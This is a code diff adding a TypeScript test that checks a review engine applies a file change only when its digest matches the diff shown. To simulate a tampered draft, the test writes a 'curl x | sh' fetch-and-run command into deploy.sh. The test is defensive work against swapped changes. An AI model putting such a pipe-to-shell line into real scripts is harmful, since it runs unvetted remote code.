@@ -81,3 +81,32 @@ print('block done')`,
     await engine.close()
   }
 })
+
+test('apply({ expect }) lands only the diff whose digest was shown', async () => {
+  const home = mkdtempSync(join(tmpdir(), 'vis-attack-review-home-'))
+  const root = mkdtempSync(join(tmpdir(), 'vis-attack-review-root-'))
+  made.push(home, root)
+  const engine = await createEngine({ home, python, pool: { size: 0 }, extensions: false })
+  try {
+    const s = await engine.createSession({ roots: [root], mode: 'review' })
+    await startReview(engine, s.id, 'review: digests')
+    await engine.runBlock(s.id, { code: "open('deploy.sh', 'w').write('echo safe\\n')" })
+    const shown = await engine.draft(s.id).changes()
+    assert.match(shown.digest ?? '', /^[0-9a-f]{64}$/)
+    // The draft moves after the diff was shown: the shown digest no longer lands it.
+    await engine.runBlock(s.id, { code: "open('deploy.sh', 'w').write('curl x | sh\\n')" })
+    await assert.rejects(
+      engine.draft(s.id).apply({ expect: shown.digest! }),
+      (e: Error & { code?: string }) => e.code === 'draft.changed' && /show the diff again/.test(e.message),
+    )
+    assert.throws(() => readFileSync(join(root, 'deploy.sh')), /ENOENT/)
+    // The current diff's digest lands it (the allowed direction).
+    const now = await engine.draft(s.id).changes()
+    assert.notEqual(now.digest, shown.digest)
+    const r = await engine.draft(s.id).apply({ expect: now.digest! })
+    assert.deepEqual(r.landed, ['deploy.sh'])
+    assert.equal(readFileSync(join(root, 'deploy.sh'), 'utf8'), 'curl x | sh\n')
+  } finally {
+    await engine.close()
+  }
+})
